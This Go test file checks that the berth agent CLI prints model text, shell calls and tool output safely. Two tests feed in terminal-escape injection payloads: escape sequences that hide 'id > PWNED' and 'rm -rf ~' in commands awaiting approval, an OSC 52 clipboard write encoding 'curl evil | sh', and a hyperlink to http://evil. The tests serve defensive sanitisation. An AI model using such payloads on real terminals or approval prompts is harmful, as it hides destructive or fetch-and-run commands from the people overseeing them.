package main

import (
	"context"
	"encoding/json"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/berth-dev/berth/agent"
	"github.com/berth-dev/berth/internal/testkit"
)

// streams is a command's output as it is stored, growing.
type streams struct {
	mu    sync.Mutex
	data  map[string]string
	reads int
}

func (s *streams) read(_ context.Context, key string, off int64) ([]byte, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.reads++
	d := s.data[key]
	if off >= int64(len(d)) {
		return nil, nil
	}
	return []byte(d[off:]), nil
}

func (s *streams) set(key, data string) {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.data[key] = data
}

// TestTurnPrinterLive: a running command's output is printed as it is
// stored, before the call ends, then only how it ended.
func TestTurnPrinterLive(t *testing.T) {
	for _, jsonl := range []bool{false, true} {
		st := &streams{data: map[string]string{}}
		var out testkit.SyncBuffer
		p := newTurnPrinter(t.Context(), &out, jsonl, "s1", 1, st.read)
		call := agent.CallState{ID: "c1", Name: "shell", Arguments: `{"command":"make test"}`, Status: agent.StatusRunning,
			Stdout: "o", Stderr: "e"}
		state := func(c agent.CallState) agent.State {
			return agent.State{Turn: agent.TurnState{Number: 1, Status: agent.StatusRunning, Stream: "t1", Calls: []agent.CallState{c}}}
		}
		// What the model says before its tool call streams first.
		if err := p.see(agent.State{Turn: agent.TurnState{Number: 1, Status: agent.StatusThinking, Stream: "t1"}}); err != nil {
			t.Fatal(err)
		}
		st.set("t1", "Let me run ")
		waitUntil(t, func() bool { return strings.Contains(out.String(), "Let me run ") })
		st.set("t1", "Let me run the tests.")
		if err := p.see(state(call)); err != nil {
			t.Fatal(err)
		}
		st.set("o", "first\n")
		waitUntil(t, func() bool { return strings.Contains(out.String(), "first") })
		st.set("o", "first\nsecond\n")
		st.set("e", "warning\n")
		call.Status, call.Output = agent.StatusDone, "exit code 0\nfirst\nsecond\nstderr:\nwarning\n"
		if err := p.see(state(call)); err != nil {
			t.Fatal(err)
		}
		// The answer streams as it comes, and is not printed again.
		st.set("t2", "passed")
		if err := p.see(agent.State{Turn: agent.TurnState{Number: 1, Status: agent.StatusThinking, Stream: "t2", Calls: []agent.CallState{call}}}); err != nil {
			t.Fatal(err)
		}
		waitUntil(t, func() bool { return strings.Contains(out.String(), "passed") })
		if err := p.finish(agent.TurnState{Number: 1, Status: agent.StatusDone, Stream: "t2", Answer: "passed", Calls: []agent.CallState{call}}); err != nil {
			t.Fatal(err)
		}
		// The turn is over: every stream followed was caught up, its
		// reader gone (catchUp waits for it), before stop.
		for id := range p.live {
			t.Errorf("jsonl %v: %s still followed after the turn ended", jsonl, id)
		}
		p.stop()
		want := "Let me run the tests.\n$ make test\n  first\n  second\n  warning\n  exit code 0\npassed\n"
		if jsonl {
			want = `{"type":"text","data":"Let me run "}
{"type":"text","data":"the tests."}
{"type":"call","call_id":"c1","name":"shell","arguments":"{\"command\":\"make test\"}"}
{"type":"stdout","call_id":"c1","data":"first\n"}
{"type":"stdout","call_id":"c1","data":"second\n"}
{"type":"stderr","call_id":"c1","data":"warning\n"}
{"type":"output","call_id":"c1","output":"exit code 0\nfirst\nsecond\nstderr:\nwarning\n"}
{"type":"text","data":"passed"}
{"type":"answer","turn":1,"text":"passed"}
`
		}
		if got := out.String(); got != want {
			t.Errorf("jsonl %v: printed\n%s\nwant\n%s", jsonl, got, want)
		}
	}
}

func waitUntil(t *testing.T, cond func() bool) {
	t.Helper()
	deadline := time.Now().Add(10 * time.Second)
	for !cond() {
		if time.Now().After(deadline) {
			t.Fatal("timed out")
		}
		time.Sleep(10 * time.Millisecond)
	}
}

// TestTurnPrinterSafe: in text, nothing from the model or the sandbox
// acts on the terminal, even cut between two reads, and a command
// awaiting approval shows every character; -o jsonl gives it all as it
// is.
func TestTurnPrinterSafe(t *testing.T) {
	command := "id > PWNED; echo x #\r\x1b[2Kls -la"
	args, err := json.Marshal(map[string]string{"command": command})
	if err != nil {
		t.Fatal(err)
	}
	for _, jsonl := range []bool{false, true} {
		st := &streams{data: map[string]string{}}
		var out testkit.SyncBuffer
		p := newTurnPrinter(t.Context(), &out, jsonl, "s1", 1, st.read)
		// The model's text brings a clipboard write, cut in two.
		if err := p.see(agent.State{Turn: agent.TurnState{Number: 1, Status: agent.StatusThinking, Stream: "t1"}}); err != nil {
			t.Fatal(err)
		}
		st.set("t1", "Looking\x1b]52;c;")
		waitUntil(t, func() bool { return strings.Contains(out.String(), "Looking") })
		st.set("t1", "Looking\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07 around.")
		call := agent.CallState{ID: "c1", Name: "shell", Arguments: string(args), Status: agent.StatusApproval}
		state := agent.State{Turn: agent.TurnState{Number: 1, Status: agent.StatusApproval, Calls: []agent.CallState{call}}}
		if err := p.see(state); err != nil {
			t.Fatal(err)
		}
		call.Status, call.Output = agent.StatusDone, "exit code 0\n\x1b]0;owned\x07\x1b[2Jtotal 0\n"
		if err := p.finish(agent.TurnState{Number: 1, Status: agent.StatusDone, Answer: "Done \x1b]8;;http://evil\x1b\\here\x1b]8;;\x1b\\.",
			Calls: []agent.CallState{call}}); err != nil {
			t.Fatal(err)
		}
		p.stop()
		got := out.String()
		if jsonl {
			for _, raw := range []string{`Y3VybCBldmlsIHwgc2g=\u0007`, `#\\r\\u001b[2Kls -la`, `\u001b]0;owned`} {
				if !strings.Contains(got, raw) {
					t.Errorf("jsonl: %s not given as it is in\n%s", raw, got)
				}
			}
			continue
		}
		want := "Looking around.\n" +
			"$ id > PWNED; echo x #␍␛[2Kls -la\n" +
			"  awaiting approval: berth session approve s1 c1 (or deny s1 c1)\n" +
			"  exit code 0\n  total 0\n" +
			"Done here.\n"
		if got != want {
			t.Errorf("printed\n%q\nwant\n%q", got, want)
		}
	}
}

// TestPrintStateSafe: session show cleans what it prints the same way.
func TestPrintStateSafe(t *testing.T) {
	args, err := json.Marshal(map[string]string{"command": "true\x1b[1A\x1b[2Krm -rf ~"})
	if err != nil {
		t.Fatal(err)
	}
	st := agent.State{Status: agent.StatusIdle, Turns: []agent.TurnState{{Number: 1, Status: agent.StatusDone,
		Message: "hi\x1b]0;t\x07", Answer: "ok\x1b[31m!", Calls: []agent.CallState{{ID: "c1", Name: "shell", Arguments: string(args),
			Said: "let me\x1b]52;c;eA==\x07 see"}}}}}
	var b strings.Builder
	if err := printState(&b, "s1", st); err != nil {
		t.Fatal(err)
	}
	want := "session s1: idle, sandbox -, 0 messages, 0 tokens\n\n> hi\nlet me see\n$ true␛[1A␛[2Krm -rf ~\nok!\n"
	if b.String() != want {
		t.Errorf("printed\n%q\nwant\n%q", b.String(), want)
	}
}
